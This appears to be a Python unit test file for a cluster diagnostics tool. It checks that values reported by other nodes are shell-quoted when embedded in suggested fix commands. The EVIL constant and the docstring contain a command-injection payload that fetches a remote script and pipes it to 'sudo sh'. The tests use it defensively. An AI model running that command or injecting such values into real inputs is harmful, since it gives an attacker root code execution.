"""Issue 33 part 1: every value another node reported that a check embeds in a fix is one shell-quoted word
(cluster/PROTOCOL.md: "every value embedded in a line to paste is shell-quoted"). An outsider's facts for an
open node once made the master print `fix: curl -s http://203.0.113.9/fix.sh | sudo sh; python3 -m pip ...`."""
from __future__ import annotations

import shlex

from ddpdoctor_checks import env_vars
from ddpdoctor_checks.gpu import GpuCheck
from ddpdoctor_checks.names import NamesCheck
from ddpdoctor_checks.packages import PackagesCheck
from ddpdoctor_checks.parity import ParityCheck
from ddpdoctor_checks.torch_build import TorchBuildCheck
from tests.unit.checks.test_parity import parity_node

EVIL = "x; curl -s http://203.0.113.9/fix.sh | sudo sh #"


def _words(fix: str) -> list[str]:
    """The words a shell would see (quotes honoured, ; | & < > as their own tokens)."""
    lexer = shlex.shlex(fix, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    return list(lexer)


def assert_one_word(fixes: list[str]) -> None:
    fixes = [f for f in fixes if f and "curl" in f]
    assert fixes, "no fix embedded the reported value: the case tests nothing"
    for fix in fixes:
        assert "curl" not in _words(fix), fix  # quoted: the command is one harmless word, never run
        assert shlex.quote(EVIL) in fix or "'" in fix, fix


def test_torch_builds_python_executable():
    facts = {"w": {"python_version": "3.11.0", "python_executable": EVIL, "torch_error": "ImportError: x"}}
    res = TorchBuildCheck().compare(facts, TorchBuildCheck().with_defaults({}))
    assert_one_word([r.fix for r in res])
    assert shlex.split([r.fix for r in res if r.fix][0])[0] == EVIL


def test_packages_duplicate_names_and_versions():
    facts = {"w": {"packages": ["torch==2.13.0"], "count": 1, "fingerprint": "f",
                   "shadowed": [{"name": EVIL, "used": "1", "shadowed": "2", "location": "/x"}]}}
    res = PackagesCheck().compare(facts, PackagesCheck().with_defaults({}))
    assert_one_word([r.fix for r in res])


def test_env_vars_interface_names():
    res = env_vars.judge_env(env_vars.EnvVarsCheck(), "w", {"GLOO_SOCKET_IFNAME": "a,b", "NCCL_SOCKET_IFNAME": "nope"},
                             ["eth0", EVIL], {})
    assert_one_word([r.fix for r in res])


def test_gpu_index_and_pids():
    gpus = [{"index": EVIL, "uuid": "GPU-1", "name": "H100", "compute_mode": "exclusive_process",
             "processes": [{"pid": EVIL}], "mig_enabled": True}]
    facts = {"w": {"driver_version": "550", "cuda_driver_version": "12.4", "gpus": gpus, "no_driver": False,
                   "cuda_visible_devices": {"resolved": [EVIL]}, "visible_count": 1, "torch_device_count": 1,
                   "torch_cuda_version": "12.4"}}
    res = GpuCheck().compare(facts, GpuCheck().with_defaults({}))
    assert_one_word([r.fix for r in res])


def test_names_interfaces_and_host_names():
    facts = {"w": {"route_to_master": {"iface": EVIL, "mtu": 1500}, "ifname_env": {"GLOO_SOCKET_IFNAME": "eth9"},
                   "hostname": EVIL, "hostname_lookup": {"error": "no such name"}, "advertised": "10.0.0.2"}}
    res = list(NamesCheck().compare(facts, NamesCheck().with_defaults({})))
    assert_one_word([r.fix for r in res])


def test_parity_pins_and_keys():
    facts = {"a": parity_node(), "b": parity_node(),
             "c": parity_node(pkgs=("numpy==2.1.0", f"{EVIL}==1"), env={EVIL: "1"})}
    facts["a"]["comparable"]["packages"][EVIL] = "2"
    facts["b"]["comparable"]["packages"][EVIL] = "2"
    res = ParityCheck().compare(facts, ParityCheck().with_defaults({}))
    assert_one_word([r.fix for r in res])
